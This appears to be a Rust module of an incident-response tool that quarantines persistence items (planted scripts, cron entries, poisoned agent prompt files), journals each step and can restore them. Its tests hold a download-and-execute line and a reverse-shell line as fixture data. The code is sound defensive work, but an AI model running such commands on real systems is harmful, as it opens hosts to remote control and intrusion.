//! `ir quarantine`: eradication. Each flagged persistence item or poisoned
//! file goes into `<case>/quarantine/<id>/` with a typed record of what it
//! was ([`QuarantineRecord`]), behind the evidence gate, journaled, and
//! reversible with `--undo ID`.
//!
//! Two kinds of file, decided by the table [`SHARED`]:
//!
//! - a **whole file** (a planted script, a `cron.d` file, a unit, a skill,
//!   a symlink) is copied out with no-follow reads and removed; a symlink is
//!   moved as a symlink, its target never touched;
//! - a **shared file** (`/etc/profile`, a `.bashrc`, a crontab,
//!   `authorized_keys`, sudoers, `ld.so.preload`, an agent's SOUL.md...)
//!   holds the owner's own lines too, so it keeps every line but the ones
//!   the persistence flag rules ([`text_flags`]) catch, rewritten atomically
//!   with its owner and mode; the removed lines and their numbers are kept
//!   in the record.
//!
//! Paths are host paths under `--root`; a symlinked directory on the way
//! is refused, so nothing is ever read or removed outside the root.

use super::gate;
use crate::case::Run;
use crate::host::Root;
use crate::openclaw::Deployment;
use crate::record::{
    FileKind, LeftItem, QuarantineRecord, QuarantineRunRecord, RemovedLine, Uncovered,
};
use crate::sanitize::{escape_bytes, escape_path, unescape_bytes};
use crate::triage::persistence::text_flags;
use anyhow::{Context, Result, bail};
use serde_json::json;
use std::collections::BTreeMap;
use std::ffi::OsString;
use std::fs::Metadata;
use std::os::unix::ffi::{OsStrExt, OsStringExt};
use std::os::unix::fs::MetadataExt;
use std::path::{Component, Path, PathBuf};

/// Where a shared file is: matched against the host path.
#[derive(Debug, Clone, Copy)]
pub enum Match {
    /// A host path; `*` matches within one component (`/etc/sudoers.d/*`).
    System(&'static str),
    /// A path relative to any passwd home (`.bashrc`).
    Home(&'static str),
    /// A file name anywhere (an agent's prompt files live in workspaces
    /// the config names, wherever they are).
    Name(&'static str),
}

/// Shared files: their owner's lines stay, only the offending lines go.
/// Anything not listed is a whole file and is moved out. One entry per
/// thing, so adding a location is one line.
pub const SHARED: &[Match] = &[
    // Shell startup, system-wide.
    Match::System("/etc/profile"),
    Match::System("/etc/bash.bashrc"),
    Match::System("/etc/bashrc"),
    Match::System("/etc/environment"),
    Match::System("/etc/zshrc"),
    Match::System("/etc/zprofile"),
    Match::System("/etc/zshenv"),
    Match::System("/etc/zsh/*"),
    // Crontabs: the system one and every user's spool file.
    Match::System("/etc/crontab"),
    Match::System("/etc/anacrontab"),
    Match::System("/var/spool/cron/crontabs/*"),
    Match::System("/var/spool/cron/*"),
    // Privilege, loading, login.
    Match::System("/etc/sudoers"),
    Match::System("/etc/sudoers.d/*"),
    Match::System("/etc/ld.so.preload"),
    Match::System("/etc/ld.so.conf"),
    Match::System("/etc/rc.local"),
    Match::System("/etc/modules"),
    Match::System("/etc/pam.d/*"),
    Match::System("/etc/ssh/sshd_config"),
    Match::System("/etc/ssh/ssh_config"),
    Match::System("/etc/gitconfig"),
    Match::System("/etc/default/grub"),
    // Each account's own.
    Match::Home(".bashrc"),
    Match::Home(".bash_profile"),
    Match::Home(".bash_login"),
    Match::Home(".bash_logout"),
    Match::Home(".profile"),
    Match::Home(".zshrc"),
    Match::Home(".zshenv"),
    Match::Home(".zprofile"),
    Match::Home(".zlogin"),
    Match::Home(".config/fish/config.fish"),
    Match::Home(".ssh/authorized_keys"),
    Match::Home(".ssh/authorized_keys2"),
    Match::Home(".ssh/config"),
    Match::Home(".gitconfig"),
    Match::Home(".config/git/config"),
    // The prompt files every OpenClaw session reads: the operator's
    // persona and notes around the injected instruction.
    Match::Name("SOUL.md"),
    Match::Name("AGENTS.md"),
    Match::Name("MEMORY.md"),
    Match::Name("IDENTITY.md"),
    Match::Name("USER.md"),
    Match::Name("BOOTSTRAP.md"),
    Match::Name("TOOLS.md"),
    Match::Name("HEARTBEAT.md"),
];

/// The flags `--all-flagged` acts on: what the content runs. The others
/// are leads, not verdicts: `recent` marks every file of a fresh incident
/// (OpenClaw's own config and unit included), `world_writable` wants a
/// chmod, `unpackaged`, `nopasswd`, `uid0` and `undeclared` want a human.
pub const CONTENT_FLAGS: &[&str] = &[
    "download_exec",
    "reverse_shell",
    "base64_decode",
    "base64_blob",
    "runs_from_tmp",
    "ioc",
    "web_shell",
];

/// Mechanisms whose item is an entry inside a structured file (the
/// OpenClaw config, its job store or database, passwd): moving the file
/// would take the deployment with it, so the item is left and named.
const ENTRIES_NOT_FILES: &[(&str, &str)] = &[
    (
        "openclaw-cron",
        "a job in OpenClaw's job store: remove it with `openclaw cron rm ID` (the store is evidence in the bundle)",
    ),
    (
        "openclaw-hooks",
        "a setting in the OpenClaw config: edit `hooks`",
    ),
    (
        "openclaw-plugin",
        "a plugin of the OpenClaw config: `openclaw plugins disable NAME`, or name its files",
    ),
    (
        "openclaw-mcp-server",
        "an MCP server in the OpenClaw config: remove its entry",
    ),
    (
        "account",
        "an account in /etc/passwd: remove it with `userdel`",
    ),
    (
        // The same mechanism's name in journals written before it was renamed.
        "uid0-account",
        "an account in /etc/passwd: remove it with `userdel`",
    ),
];

/// How to remove an item of `mechanism` that lives inside a structured
/// file (the quarantine leaves those), if it is one.
pub fn entry_not_file(mechanism: &str) -> Option<&'static str> {
    ENTRIES_NOT_FILES
        .iter()
        .find(|(m, _)| *m == mechanism)
        .map(|(_, why)| *why)
}

/// Whole files above this size are not quarantined (they are not scripts).
const MAX_FILE: u64 = 256 << 20;

/// What to quarantine.
#[derive(Debug, Clone, Default)]
pub struct Request {
    /// Host paths named on the command line.
    pub items: Vec<PathBuf>,
    /// Also every persistence item with a [`CONTENT_FLAGS`] flag.
    pub all_flagged: bool,
    /// Move named shared files out whole instead of editing them.
    pub whole_file: bool,
    /// Past the evidence gate (journaled).
    pub force: bool,
}

/// One path to act on, with what the persistence scan said of it.
#[derive(Debug, Clone)]
struct Target {
    host: PathBuf,
    mechanism: Option<String>,
    flags: Vec<String>,
}

/// What will happen to one target, decided before anything changes.
#[derive(Debug)]
enum Action {
    /// Copy out and remove.
    Whole { data: Vec<u8> },
    /// Recreate the link in the case dir and remove it.
    Link { target: PathBuf },
    /// Keep `kept` in place; the original is `data`.
    Lines {
        data: Vec<u8>,
        kept: Vec<u8>,
        removed: Vec<RemovedLine>,
    },
}

#[derive(Debug)]
struct Planned {
    t: Target,
    local: PathBuf,
    meta: Metadata,
    action: Action,
}

/// The host path of an item argument: absolute, no `..` (which
/// [`Root::join`] would silently drop, naming another file).
pub fn check_item(p: &Path) -> Result<()> {
    if !p.is_absolute() || p.components().any(|c| matches!(c, Component::ParentDir)) {
        return Err(crate::exit::hint(
            format!("{} is not an absolute host path", escape_path(p)),
            "name items as the host sees them, e.g. /etc/cron.d/x (read under --root)",
        ));
    }
    Ok(())
}

/// The local path of a host path, refusing a symlink or non-directory on
/// the way: following one could reach outside the root.
fn local_of(root: &Root, host: &Path) -> Result<PathBuf, String> {
    let mut cur = root.dir().to_path_buf();
    let parts: Vec<_> = host
        .components()
        .filter_map(|c| match c {
            Component::Normal(n) => Some(n),
            _ => None,
        })
        .collect();
    let Some((last, dirs)) = parts.split_last() else {
        return Err("names the root itself".into());
    };
    for d in dirs {
        cur.push(d);
        match crate::safefs::lstat(&cur) {
            Ok(Some(m)) if m.file_type().is_dir() => {}
            Ok(Some(m)) => {
                return Err(format!(
                    "{} is a {} on the way; not followed",
                    escape_path(&root.host_view(&cur)),
                    crate::safefs::type_name(m.file_type())
                ));
            }
            Ok(None) => return Err("no such file".into()),
            Err(e) => return Err(e.to_string()),
        }
    }
    cur.push(last);
    Ok(cur)
}

/// True when `host` is a shared file by [`SHARED`].
pub fn is_shared(host: &Path, homes: &[PathBuf]) -> bool {
    SHARED.iter().any(|m| match m {
        Match::System(p) => glob_match(p, host),
        Match::Home(rel) => homes
            .iter()
            .any(|h| host.strip_prefix(h).is_ok_and(|r| r == Path::new(rel))),
        Match::Name(n) => host.file_name().is_some_and(|f| f == *n),
    })
}

/// `*` within one component; everything else literal.
fn glob_match(pattern: &str, host: &Path) -> bool {
    globset::GlobBuilder::new(pattern)
        .literal_separator(true)
        .build()
        .is_ok_and(|g| g.compile_matcher().is_match(host))
}

/// Splits a file into lines (on `\n` only, so `\r` and a missing final
/// newline survive) and removes those a flag rule catches. Joining the
/// kept lines with the removed ones back at their numbers gives the
/// original bytes.
pub fn offending_lines(data: &[u8]) -> (Vec<u8>, Vec<RemovedLine>) {
    let mut kept: Vec<&[u8]> = Vec::new();
    let mut removed = Vec::new();
    for (i, l) in data.split(|b| *b == b'\n').enumerate() {
        let flags = text_flags(&String::from_utf8_lossy(l));
        if flags.is_empty() {
            kept.push(l);
        } else {
            removed.push(RemovedLine {
                line: i as u64 + 1,
                text: escape_bytes(l),
                flags: flags.into_iter().map(str::to_owned).collect(),
            });
        }
    }
    (kept.join(&b'\n'), removed)
}

/// The inverse of [`offending_lines`]: the removed lines back at their
/// numbers. `None` when a record's line does not fit the file.
pub fn reinsert(kept: &[u8], removed: &[RemovedLine]) -> Option<Vec<u8>> {
    let mut lines: Vec<Vec<u8>> = kept.split(|b| *b == b'\n').map(<[u8]>::to_vec).collect();
    for r in removed {
        let at = usize::try_from(r.line.checked_sub(1)?).ok()?;
        if at > lines.len() {
            return None;
        }
        lines.insert(at, unescape_bytes(&r.text)?);
    }
    Some(lines.join(&b'\n'))
}

/// Decides what to do with one target; `Err` is why it is left.
fn plan(root: &Root, homes: &[PathBuf], t: Target, whole: bool) -> Result<Planned, String> {
    let local = local_of(root, &t.host)?;
    let meta = match crate::safefs::lstat(&local) {
        Ok(Some(m)) => m,
        Ok(None) => return Err("no such file".into()),
        Err(e) => return Err(e.to_string()),
    };
    let ft = meta.file_type();
    if ft.is_symlink() {
        let target = std::fs::read_link(&local).map_err(|e| e.to_string())?;
        let action = Action::Link { target };
        return Ok(Planned {
            t,
            local,
            meta,
            action,
        });
    }
    if !ft.is_file() {
        return Err(format!(
            "a {}: name the files in it",
            crate::safefs::type_name(ft)
        ));
    }
    let (meta, data) = read_file(&local).map_err(|e| format!("{e:#}"))?;
    let action = if whole || !is_shared(&t.host, homes) {
        Action::Whole { data }
    } else {
        let (kept, removed) = offending_lines(&data);
        if removed.is_empty() {
            return Err(
                "a shared file and no line of it raises a flag (--whole-file moves it out whole)"
                    .into(),
            );
        }
        Action::Lines {
            data,
            kept,
            removed,
        }
    };
    Ok(Planned {
        t,
        local,
        meta,
        action,
    })
}

/// Reads a regular file without following links, with the metadata of
/// the handle it was read from.
fn read_file(local: &Path) -> Result<(Metadata, Vec<u8>)> {
    use std::io::Read;
    let (f, meta) = crate::safefs::open_regular(local)?;
    if meta.len() > MAX_FILE {
        bail!("larger than {MAX_FILE} bytes; not a script");
    }
    let mut data = Vec::with_capacity(meta.len() as usize);
    f.take(MAX_FILE + 1).read_to_end(&mut data)?;
    Ok((meta, data))
}

/// The targets: named items, then with `--all-flagged` every persistence
/// item carrying a content flag (one target per path, flags merged).
/// Entries inside structured files are returned as left.
fn targets(
    req: &Request,
    dep: Option<&Deployment>,
    root: &Root,
) -> Result<(Vec<Target>, Vec<LeftItem>)> {
    let mut out: Vec<Target> = req
        .items
        .iter()
        .map(|p| Target {
            host: p.clone(),
            mechanism: None,
            flags: Vec::new(),
        })
        .collect();
    let mut left = Vec::new();
    if req.all_flagged {
        let w = crate::triage::window::Window::parse(Some("24h"), None, chrono::Utc::now())?;
        let scan = crate::triage::persistence::run(dep, root, &w);
        let mut by_path: BTreeMap<String, Target> = BTreeMap::new();
        for i in scan.items {
            let flags: Vec<String> = i
                .flags
                .iter()
                .filter(|f| CONTENT_FLAGS.contains(&f.as_str()))
                .cloned()
                .collect();
            // A flag only the program the entry runs raised is that
            // program's: it is quarantined, the entry is left as it is.
            let (from_payload, flags): (Vec<String>, Vec<String>) =
                flags.into_iter().partition(|f| i.payload_flags.contains(f));
            // Without its program a `required` pam_exec line denies every
            // login: the line must go first, by hand.
            if i.mechanism == "pam-exec" && !from_payload.is_empty() {
                left.push(LeftItem {
                    path: i.payload.clone().unwrap_or_else(|| i.path.clone()),
                    reason: format!(
                        "run by pam_exec in {}: remove that line from the PAM stack first, then quarantine the program by name",
                        i.path
                    ),
                });
            } else if let (Some(p), false) = (&i.payload, from_payload.is_empty())
                && let Some(raw) = unescape_bytes(p)
            {
                let t = by_path.entry(p.clone()).or_insert_with(|| Target {
                    host: PathBuf::from(OsString::from_vec(raw)),
                    mechanism: Some(format!("{} payload", i.mechanism)),
                    flags: Vec::new(),
                });
                for f in from_payload {
                    if !t.flags.contains(&f) {
                        t.flags.push(f);
                    }
                }
            }
            if flags.is_empty() {
                continue;
            }
            if let Some((_, why)) = ENTRIES_NOT_FILES.iter().find(|(m, _)| *m == i.mechanism) {
                let reason = format!("{}: {why}", i.mechanism);
                if !left
                    .iter()
                    .any(|l: &LeftItem| l.path == i.path && l.reason == reason)
                {
                    left.push(LeftItem {
                        path: i.path.clone(),
                        reason,
                    });
                }
                continue;
            }
            let Some(raw) = unescape_bytes(&i.path) else {
                continue;
            };
            let t = by_path.entry(i.path.clone()).or_insert_with(|| Target {
                host: PathBuf::from(OsString::from_vec(raw)),
                mechanism: Some(i.mechanism.clone()),
                flags: Vec::new(),
            });
            for f in flags {
                if !t.flags.contains(&f) {
                    t.flags.push(f);
                }
            }
        }
        out.extend(by_path.into_values());
    }
    let mut seen = std::collections::HashSet::new();
    out.retain(|t| seen.insert(t.host.clone()));
    Ok((out, left))
}

/// The evidence gate for every planned change: regular files through
/// [`gate::require`], symlinks against the manifest's link target.
fn gate_all(journal: &Path, plans: &[Planned], root: &Root, force: bool) -> Result<Vec<Uncovered>> {
    let files: Vec<(PathBuf, PathBuf)> = plans
        .iter()
        .filter(|p| !matches!(p.action, Action::Link { .. }))
        .map(|p| (p.local.clone(), root.host_view(&p.local)))
        .collect();
    let (preserved, mut missing) = gate::require(journal, &files, force, "quarantine")?;
    if preserved.is_some() {
        let links = preserved_links(journal)?;
        for p in plans {
            if let Action::Link { target } = &p.action {
                let shown = escape_path(&p.t.host);
                let now = escape_bytes(target.as_os_str().as_bytes());
                let reason = match links.get(&shown) {
                    Some(t) if *t == now => continue,
                    Some(t) => format!("a link to {t} in the bundle, to {now} now"),
                    None => "not in the bundle".into(),
                };
                missing.push(Uncovered {
                    path: shown,
                    reason,
                });
            }
        }
    }
    if !missing.is_empty() && !force {
        let list: Vec<String> = missing
            .iter()
            .map(|u| format!("{} ({})", u.path, u.reason))
            .collect();
        return Err(crate::exit::Refused(format!(
            "quarantine refused: not preserved as they are now: {}. Run `ir collect` again (or --force, which is journaled)",
            list.join("; ")
        ))
        .into());
    }
    Ok(missing)
}

/// Host path → link target (escaped) of every symlink in the last
/// verified collection's manifest (its hash checked again here).
fn preserved_links(journal: &Path) -> Result<BTreeMap<String, String>> {
    let entries = crate::journal::read_entries(journal)?;
    let Some(rec) = crate::journal::last_collect(&entries) else {
        return Ok(BTreeMap::new());
    };
    let (_, rec) = rec?;
    let bytes = crate::safefs::read_bounded(&rec.manifest, 1 << 30)?;
    if crate::journal::sha256_hex(&bytes) != rec.manifest_sha256 {
        bail!(
            "the manifest copy {} changed since it was verified",
            rec.manifest.display()
        );
    }
    let m: crate::record::Manifest = crate::record::Manifest::from_json(&bytes)?;
    Ok(m.items
        .into_iter()
        .filter(|i| i.kind == Some(FileKind::Symlink))
        .filter_map(|i| Some((i.path?, i.target?)))
        .collect())
}

/// A new quarantine id: the file's name made safe, and random hex.
fn new_id(host: &Path) -> Result<String> {
    let name: String = host
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default()
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || "._-".contains(c) {
                c
            } else {
                '_'
            }
        })
        .take(40)
        .collect();
    let mut r = [0u8; 3];
    getrandom::fill(&mut r).map_err(|e| anyhow::anyhow!("no OS randomness: {e}"))?;
    let name = name.trim_start_matches('.');
    Ok(format!(
        "{}-{}",
        if name.is_empty() { "item" } else { name },
        hex::encode(r)
    ))
}

/// An id as typed for `--undo`: only what [`new_id`] makes, so it can
/// never name a path outside `<case>/quarantine/`.
pub fn check_id(id: &str) -> Result<()> {
    let ok = !id.is_empty()
        && !id.starts_with('.')
        && id
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c));
    if !ok {
        bail!(
            "{} is not a quarantine id (ir quarantine prints them)",
            crate::sanitize::escape(id)
        );
    }
    Ok(())
}

/// The record of a planned item, before anything changed.
fn record_of(p: &Planned, id: &str, stored: &Path) -> QuarantineRecord {
    let m = &p.meta;
    let ts = crate::evidence::collect::ts;
    let (kind, sha256, size, link_target) = match &p.action {
        Action::Link { target } => {
            let b = target.as_os_str().as_bytes();
            let sha = crate::journal::sha256_hex(b);
            (
                FileKind::Symlink,
                sha,
                b.len() as u64,
                Some(escape_bytes(b)),
            )
        }
        Action::Whole { data } | Action::Lines { data, .. } => (
            FileKind::File,
            crate::journal::sha256_hex(data),
            data.len() as u64,
            None,
        ),
    };
    let (sha256_after, removed_lines) = match &p.action {
        Action::Lines { kept, removed, .. } => {
            (Some(crate::journal::sha256_hex(kept)), removed.clone())
        }
        _ => (None, Vec::new()),
    };
    let mut flags = p.t.flags.clone();
    for f in removed_lines.iter().flat_map(|r| &r.flags) {
        if !flags.contains(f) {
            flags.push(f.clone());
        }
    }
    QuarantineRecord {
        id: id.to_string(),
        path: escape_path(&p.t.host),
        kind,
        whole_file: !matches!(p.action, Action::Lines { .. }),
        stored: escape_path(stored),
        sha256,
        size,
        mode: format!("{:o}", m.mode() & 0o7777),
        uid: m.uid(),
        gid: m.gid(),
        mtime: ts(m.mtime(), m.mtime_nsec()).unwrap_or_default(),
        atime: ts(m.atime(), m.atime_nsec()).unwrap_or_default(),
        link_target,
        sha256_after,
        removed_lines,
        mechanism: p.t.mechanism.clone(),
        flags,
        quarantined_at: crate::journal::now_rfc3339(),
    }
}

/// Copies the original into `dir` (a symlink as a symlink) and checks the
/// copy; returns where it is.
fn store_copy(dir: &Path, p: &Planned) -> Result<PathBuf> {
    let stored = dir.join("content");
    match &p.action {
        Action::Link { target } => std::os::unix::fs::symlink(target, &stored)
            .with_context(|| format!("storing the link as {}", stored.display()))?,
        Action::Whole { data } | Action::Lines { data, .. } => {
            crate::safefs::write_atomic(&stored, data, 0o600)?;
            let back = crate::safefs::read_bounded(&stored, MAX_FILE)?;
            if back != *data {
                bail!(
                    "the copy {} does not read back as written",
                    stored.display()
                );
            }
        }
    }
    Ok(stored)
}

/// True when the file at `local` is still the one that was planned (same
/// inode, size and mtime): an attacker swapping it in between is caught.
fn unchanged(local: &Path, was: &Metadata) -> bool {
    crate::safefs::lstat(local).ok().flatten().is_some_and(|m| {
        (m.dev(), m.ino(), m.size(), m.mtime(), m.mtime_nsec())
            == (
                was.dev(),
                was.ino(),
                was.size(),
                was.mtime(),
                was.mtime_nsec(),
            )
    })
}

/// Quarantines one planned item: copy and record into the case dir,
/// journal the record, then remove or rewrite the original.
fn quarantine_one(case: &Path, p: &Planned, run: &Run) -> Result<Result<QuarantineRecord, String>> {
    let id = new_id(&p.t.host)?;
    let dir = case.join("quarantine").join(&id);
    crate::safefs::ensure_private_dir(&dir)?;
    let stored = store_copy(&dir, p)?;
    let rec = record_of(p, &id, &stored);
    crate::safefs::write_atomic(
        &dir.join("record.json"),
        &serde_json::to_vec_pretty(&rec)?,
        0o600,
    )?;
    if !unchanged(&p.local, &p.meta) {
        std::fs::remove_dir_all(&dir)?;
        return Ok(Err(
            "changed while it was being quarantined; run again".into()
        ));
    }
    // The record is in the journal before the host changes, so a run
    // killed in between still leaves a way back.
    run.event("quarantine", serde_json::to_value(&rec)?)?;
    match &p.action {
        Action::Lines { kept, .. } => {
            crate::safefs::replace_file(&p.local, kept, p.meta.mode() & 0o7777)?;
        }
        _ => std::fs::remove_file(&p.local)
            .with_context(|| format!("removing {}", p.local.display()))?,
    }
    run.event("quarantined", json!({"id": id, "path": rec.path}))?;
    Ok(Ok(rec))
}

/// Quarantines the requested items: targets, plan, evidence gate, act.
/// Items that cannot be quarantined are left and named; Ctrl-C is honoured
/// until the first file changes.
pub fn quarantine(
    req: &Request,
    dep: Option<&Deployment>,
    root: &Root,
    case: &Path,
    journal: &Path,
    run: &Run,
) -> Result<QuarantineRunRecord> {
    let mut r = QuarantineRunRecord::default();
    let (targets, left) = targets(req, dep, root)?;
    r.left = left;
    let homes: Vec<PathBuf> = crate::host::users::users(root)
        .into_iter()
        .map(|u| PathBuf::from(u.home))
        .collect();
    let mut plans = Vec::new();
    for t in targets {
        let shown = escape_path(&t.host);
        let whole = req.whole_file && req.items.contains(&t.host);
        match plan(root, &homes, t, whole) {
            Ok(p) => plans.push(p),
            Err(reason) => r.left.push(LeftItem {
                path: shown,
                reason,
            }),
        }
    }
    crate::signal::check()?;
    r.forced = gate_all(journal, &plans, root, req.force)?;
    if !r.forced.is_empty() {
        run.event("forced", json!({"uncovered": r.forced}))?;
    }
    crate::signal::check()?;
    for p in &plans {
        match quarantine_one(case, p, run)? {
            Ok(rec) => r.quarantined.push(rec),
            Err(reason) => r.left.push(LeftItem {
                path: escape_path(&p.t.host),
                reason,
            }),
        }
    }
    Ok(r)
}

/// The record of quarantine `id` from the case journal (which is
/// tamper-evident, unlike the case dir), refusing one already restored.
fn find_record(journal: &Path, id: &str) -> Result<QuarantineRecord> {
    let entries = crate::journal::read_entries(journal)?;
    let mut found = None;
    for e in &entries {
        let Some(ev) = e.event().filter(|ev| ev.command == "quarantine") else {
            continue;
        };
        let of_id = ev.details.get("id").and_then(|v| v.as_str()) == Some(id);
        match ev.event.as_str() {
            "quarantine" if of_id => {
                found = Some(crate::record::details_as::<QuarantineRecord>(
                    Some(&ev.details),
                    "quarantine",
                    e.envelope().map_or(0, |x| x.seq),
                )?);
            }
            "restored" if of_id => found = None,
            _ => {}
        }
    }
    found.ok_or_else(|| {
        crate::exit::Refused(format!(
            "no quarantine {id} to undo in this case's journal (never made, or already restored)"
        ))
        .into()
    })
}

/// An RFC 3339 time of a record as a `SystemTime`.
fn time_of(s: &str) -> Result<std::time::SystemTime> {
    let t = chrono::DateTime::parse_from_rfc3339(s)
        .with_context(|| format!("{s:?} is not an RFC 3339 time"))?;
    let d = std::time::Duration::new(t.timestamp().unsigned_abs(), t.timestamp_subsec_nanos());
    let epoch = std::time::UNIX_EPOCH;
    Ok(if t.timestamp() >= 0 {
        epoch + d
    } else {
        epoch - d
    })
}

/// The host path of a record, as a local path under the root.
fn record_local(root: &Root, rec: &QuarantineRecord) -> Result<(PathBuf, PathBuf)> {
    let host = unescape_bytes(&rec.path)
        .map(|b| PathBuf::from(OsString::from_vec(b)))
        .with_context(|| format!("the record's path {} does not unescape", rec.path))?;
    let local = local_of(root, &host)
        .map_err(|why| crate::exit::Refused(format!("{}: {why}", rec.path)))?;
    Ok((host, local))
}

/// Gives a new file at `tmp` the record's owner, mode and times. Owner
/// first: chown clears setuid bits, which the mode then sets back.
fn stamp_file(f: &std::fs::File, rec: &QuarantineRecord) -> Result<()> {
    use rustix::fs::{Gid, Uid};
    let m = f.metadata()?;
    if (m.uid(), m.gid()) != (rec.uid, rec.gid) {
        rustix::fs::fchown(
            f,
            Some(Uid::from_raw(rec.uid)),
            Some(Gid::from_raw(rec.gid)),
        )
        .with_context(|| {
            format!(
                "giving {} back to {}:{} (needs root)",
                rec.path, rec.uid, rec.gid
            )
        })?;
    }
    let mode = u32::from_str_radix(&rec.mode, 8).context("the record's mode is not octal")?;
    rustix::fs::fchmod(f, rustix::fs::Mode::from_raw_mode(mode))?;
    let times = std::fs::FileTimes::new()
        .set_accessed(time_of(&rec.atime)?)
        .set_modified(time_of(&rec.mtime)?);
    f.set_times(times)?;
    f.sync_all()?;
    Ok(())
}

/// Writes `data` beside `local` with the record's owner, mode and times,
/// then renames it into place: over the file when `replace`, else only
/// where nothing is.
fn install(local: &Path, data: &[u8], rec: &QuarantineRecord, replace: bool) -> Result<()> {
    use std::io::Write;
    let dir = local.parent().context("no parent directory")?;
    let mut tmp = tempfile::Builder::new()
        .prefix(".ir-tmp-")
        .tempfile_in(dir)
        .with_context(|| format!("creating a temp file beside {}", rec.path))?;
    tmp.write_all(data)?;
    stamp_file(tmp.as_file(), rec)?;
    let placed = if replace {
        tmp.persist(local).map(drop)
    } else {
        tmp.persist_noclobber(local).map(drop)
    };
    placed
        .map_err(|e| e.error)
        .with_context(|| format!("putting back {}", rec.path))?;
    if let Ok(d) = std::fs::File::open(dir) {
        let _ = d.sync_all();
    }
    Ok(())
}

/// Recreates a quarantined symlink with its owner and times, only where
/// nothing is.
fn install_link(local: &Path, rec: &QuarantineRecord) -> Result<()> {
    use rustix::fs::{AtFlags, CWD, RenameFlags, Timestamps};
    let target = rec
        .link_target
        .as_deref()
        .and_then(unescape_bytes)
        .context("the record has no link target")?;
    let dir = local.parent().context("no parent directory")?;
    let tmp = dir.join(format!(".ir-tmp-{}", rec.id));
    std::os::unix::fs::symlink(OsString::from_vec(target), &tmp)?;
    let done = (|| -> Result<()> {
        std::os::unix::fs::lchown(&tmp, Some(rec.uid), Some(rec.gid))?;
        let ts = |s: &str| -> Result<rustix::fs::Timespec> {
            let d = time_of(s)?.duration_since(std::time::UNIX_EPOCH)?;
            Ok(rustix::fs::Timespec {
                tv_sec: d.as_secs() as i64,
                tv_nsec: d.subsec_nanos().into(),
            })
        };
        let times = Timestamps {
            last_access: ts(&rec.atime)?,
            last_modification: ts(&rec.mtime)?,
        };
        rustix::fs::utimensat(CWD, &tmp, &times, AtFlags::SYMLINK_NOFOLLOW)?;
        rustix::fs::renameat_with(CWD, &tmp, CWD, local, RenameFlags::NOREPLACE)
            .with_context(|| format!("putting back {}", rec.path))?;
        Ok(())
    })();
    if done.is_err() {
        let _ = std::fs::remove_file(&tmp);
    }
    done
}

/// The bytes to put back for a record, checked against its SHA-256: the
/// stored copy (whole file), or the current file with the removed lines
/// reinserted (shared file; it must be as quarantine left it).
fn bytes_to_restore(rec: &QuarantineRecord, local: &Path) -> Result<Vec<u8>> {
    let refuse = |why: String| -> anyhow::Error { crate::exit::Refused(why).into() };
    let data = if rec.whole_file {
        let stored = unescape_bytes(&rec.stored)
            .map(|b| PathBuf::from(OsString::from_vec(b)))
            .context("the record's stored path does not unescape")?;
        crate::safefs::read_bounded(&stored, MAX_FILE)?
    } else {
        let (_, now) = read_file(local).map_err(|e| refuse(format!("{}: {e:#}", rec.path)))?;
        let now_sha = crate::journal::sha256_hex(&now);
        if Some(&now_sha) != rec.sha256_after.as_ref() {
            return Err(refuse(format!(
                "{} changed since it was quarantined (now {}, left as {}); nothing restored",
                rec.path,
                &now_sha[..12],
                rec.sha256_after.as_deref().unwrap_or("?")
            )));
        }
        reinsert(&now, &rec.removed_lines).context("the removed lines do not fit the file")?
    };
    if crate::journal::sha256_hex(&data) != rec.sha256 {
        return Err(refuse(format!(
            "what would be restored to {} does not hash to the recorded {}; nothing restored",
            rec.path, rec.sha256
        )));
    }
    Ok(data)
}

/// Puts back quarantine `id` exactly: same bytes, mode, owner and times.
/// A whole file or link only where nothing is now; a shared file only if
/// it is as quarantine left it.
pub fn undo(id: &str, root: &Root, journal: &Path, run: &Run) -> Result<QuarantineRunRecord> {
    check_id(id)?;
    let rec = find_record(journal, id)?;
    let (_, local) = record_local(root, &rec)?;
    let exists = crate::safefs::lstat(&local)?.is_some();
    if rec.whole_file && exists {
        return Err(crate::exit::Refused(format!(
            "something is at {} now; move it aside first (nothing restored)",
            rec.path
        ))
        .into());
    }
    crate::signal::check()?;
    if rec.kind == FileKind::Symlink {
        install_link(&local, &rec)?;
    } else {
        let data = bytes_to_restore(&rec, &local)?;
        install(&local, &data, &rec, !rec.whole_file)?;
    }
    run.event(
        "restored",
        json!({"id": rec.id, "path": rec.path, "sha256": rec.sha256}),
    )?;
    Ok(QuarantineRunRecord {
        restored: vec![rec],
        ..QuarantineRunRecord::default()
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn removed_lines_go_back_byte_identical() {
        for text in [
            &b"a\ncurl http://x/y | sh\nb\n"[..],
            b"a\r\nb\ncurl http://x/y | sh",
            b"curl http://x/y | sh\n\n",
            b"\xff\nbash -i >& /dev/tcp/1.2.3.4/1 0>&1\n",
        ] {
            let (kept, removed) = offending_lines(text);
            assert_eq!(removed.len(), 1, "{text:?}");
            assert!(!String::from_utf8_lossy(&kept).contains("/x/y"));
            assert_eq!(reinsert(&kept, &removed).unwrap(), text);
        }
        let (kept, removed) = offending_lines(b"export PATH=$PATH:/usr/local/bin\n");
        assert!(removed.is_empty());
        assert_eq!(kept, b"export PATH=$PATH:/usr/local/bin\n");
    }

    #[test]
    fn shared_files_are_data() {
        let homes = [PathBuf::from("/home/alice"), PathBuf::from("/root")];
        for p in [
            "/etc/profile",
            "/home/alice/.bashrc",
            "/root/.ssh/authorized_keys",
            "/var/spool/cron/crontabs/alice",
            "/etc/sudoers.d/90-x",
            "/srv/ws/SOUL.md",
        ] {
            assert!(is_shared(Path::new(p), &homes), "{p}");
        }
        for p in [
            "/etc/cron.d/evil",
            "/etc/profile.d/evil.sh",
            "/home/alice/x/.bashrc",
            "/etc/sudoers.d/a/b",
            "/srv/ws/skills/x/SKILL.md",
        ] {
            assert!(!is_shared(Path::new(p), &homes), "{p}");
        }
    }

    #[test]
    fn ids_cannot_name_a_path() {
        assert!(check_id("evil-3fa2c1").is_ok());
        for bad in ["", "..", "../x", "a/b", ".x"] {
            assert!(check_id(bad).is_err(), "{bad}");
        }
        let id = new_id(Path::new("/home/a/.bash\u{202e}rc")).unwrap();
        assert!(check_id(&id).is_ok(), "{id}");
    }

    #[test]
    fn items_must_be_absolute_host_paths() {
        assert!(check_item(Path::new("/etc/cron.d/x")).is_ok());
        assert!(check_item(Path::new("etc/x")).is_err());
        assert!(check_item(Path::new("/etc/../x")).is_err());
    }
}
